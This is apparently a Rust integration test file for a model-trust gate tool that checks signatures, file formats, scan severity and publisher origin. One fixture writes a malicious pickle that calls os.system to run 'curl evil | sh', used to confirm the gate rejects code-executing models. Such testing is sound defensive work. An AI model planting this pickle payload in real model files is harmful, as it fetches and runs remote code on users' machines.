//! `modelgate gate`: trust policy end to end (signature, formats, scan severity, source).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

type TestResult = Result<(), Box<dyn std::error::Error>>;

fn fx() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../modelgate-sign/tests/fixtures/signing")
}

fn mg(args: &[&str]) -> std::io::Result<Output> {
    Command::new(env!("CARGO_BIN_EXE_modelgate"))
        .args(args)
        .output()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap_or_default()
}

fn copy_dir(src: &Path, dst: &Path) -> std::io::Result<()> {
    std::fs::create_dir_all(dst)?;
    for e in std::fs::read_dir(src)? {
        let e = e?;
        let to = dst.join(e.file_name());
        if e.file_type()?.is_dir() {
            copy_dir(&e.path(), &to)?;
        } else {
            std::fs::copy(e.path(), &to)?;
        }
    }
    Ok(())
}

fn write_policy(dir: &Path, body: &str) -> std::io::Result<PathBuf> {
    std::fs::copy(fx().join("keys/p256.pub.pem"), dir.join("release.pub.pem"))?;
    std::fs::copy(fx().join("pki/root-ca.cert.pem"), dir.join("root.pem"))?;
    let p = dir.join("policy.toml");
    std::fs::write(&p, body)?;
    Ok(p)
}

const FULL: &str = r#"
[signature]
[[signature.keys]]
name = "release key"
public_key = "release.pub.pem"

[formats]
deny_code_execution = true

[scan]
max_severity = "medium"

[source]
allowed_publishers = ["acme"]
"#;

fn stdout(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn signed_clean_model_from_allowed_publisher_passes() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let snap = tmp.path().join("hub/models--acme--tiny/snapshots/0123abcd");
    copy_dir(&fx().join("model-with-sig"), &snap)?;
    let policy = write_policy(tmp.path(), FULL)?;
    let o = mg(&["gate", s(&snap), "--policy", s(&policy)])?;
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(
        out.contains("PASS signature") && out.contains("PASS formats"),
        "{out}"
    );
    assert!(
        out.contains("acme/tiny@0123abcd (hf-cache) is allowed"),
        "{out}"
    );

    // JSON verdict carries the root digest
    let o = mg(&["gate", s(&snap), "--policy", s(&policy), "--json"])?;
    let v: serde_json::Value = serde_json::from_slice(&o.stdout)?;
    assert_eq!(v["passed"], true);
    assert_eq!(
        v["root_digest"],
        "84c8c974227b154153a48f728330b5b4a78ae0c599041d6ead5f4b2f1308978e"
    );

    // wrong publisher
    let o = mg(&[
        "gate",
        s(&snap),
        "--policy",
        s(&policy),
        "--origin",
        "evil/tiny",
    ])?;
    assert_eq!(o.status.code(), Some(1));
    assert!(stdout(&o).contains("FAIL source"));
    Ok(())
}

#[test]
fn tampered_or_unsigned_or_dangerous_models_fail() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let policy = write_policy(tmp.path(), FULL)?;
    // tampered: valid signature, changed file
    let m = tmp.path().join("hub/models--acme--tiny/snapshots/r1");
    copy_dir(&fx().join("model-with-sig"), &m)?;
    std::fs::write(m.join("config.json"), "{\"hidden_size\": 32}")?;
    let o = mg(&["gate", s(&m), "--policy", s(&policy)])?;
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(
        out.contains("FAIL signature") && out.contains("config.json: content changed"),
        "{out}"
    );

    // a pickle that runs a shell command, no signature
    let p = tmp.path().join("hub/models--acme--evil/snapshots/r2");
    std::fs::create_dir_all(&p)?;
    std::fs::write(p.join("model.pkl"), b"cos\nsystem\n(S'curl evil | sh'\ntR.")?;
    let o = mg(&["gate", s(&p), "--policy", s(&policy)])?;
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(out.contains("FAIL signature"), "{out}");
    assert!(
        out.contains("FAIL formats") && out.contains("can execute code"),
        "{out}"
    );
    assert!(out.contains("FAIL scan"), "{out}");

    // certificate policy with identity constraint
    let cert_policy = write_policy(
        tmp.path(),
        r#"
[signature]
bundles = ["cert.sig"]
[[signature.certificates]]
name = "publisher CA"
roots = ["root.pem"]
identities = ["*@publisher.example"]
"#,
    )?;
    let c = tmp.path().join("certmodel");
    copy_dir(&fx().join("model"), &c)?;
    std::fs::copy(fx().join("signatures/cert-leaf.sig"), c.join("cert.sig"))?;
    // the bundle lies inside the model: it is skipped, like model-signing does
    let o = mg(&["gate", s(&c), "--policy", s(&cert_policy)])?;
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    let other =
        std::fs::read_to_string(&cert_policy)?.replace("*@publisher.example", "*@other.example");
    std::fs::write(&cert_policy, other)?;
    let o = mg(&["gate", s(&c), "--policy", s(&cert_policy)])?;
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(stdout(&o).contains("match none of"), "{}", stdout(&o));
    Ok(())
}

#[test]
fn restrict_ignore_paths_refuses_signatures_that_leave_files_out() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let policy = write_policy(
        tmp.path(),
        r#"
[signature]
restrict_ignore_paths = true
bundles = ["../sig/key-p256-ignore-readme.sig"]
[[signature.keys]]
name = "release key"
public_key = "release.pub.pem"
"#,
    )?;
    let m = tmp.path().join("m");
    copy_dir(&fx().join("model"), &m)?;
    std::fs::create_dir_all(tmp.path().join("sig"))?;
    std::fs::copy(
        fx().join("signatures/key-p256-ignore-readme.sig"),
        tmp.path().join("sig/key-p256-ignore-readme.sig"),
    )?;
    let o = mg(&["gate", s(&m), "--policy", s(&policy)])?;
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("leaves out [\"README.md\"]"),
        "{}",
        stdout(&o)
    );
    // the same signature passes without the restriction
    let relaxed = std::fs::read_to_string(&policy)?.replace("restrict_ignore_paths = true\n", "");
    std::fs::write(&policy, relaxed)?;
    let o = mg(&["gate", s(&m), "--policy", s(&policy)])?;
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    Ok(())
}

#[test]
fn bad_policy_is_a_usage_error() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let policy = write_policy(tmp.path(), "[scan]\nmax_severity = \"hgih\"\n")?;
    let o = mg(&["gate", s(&fx().join("model")), "--policy", s(&policy)])?;
    assert_eq!(o.status.code(), Some(2));
    assert!(stdout(&o).contains("max_severity"), "{}", stdout(&o));
    let policy = write_policy(tmp.path(), "[sigature]\nrequired = true\n")?;
    let o = mg(&["gate", s(&fx().join("model")), "--policy", s(&policy)])?;
    assert_eq!(o.status.code(), Some(2));
    Ok(())
}
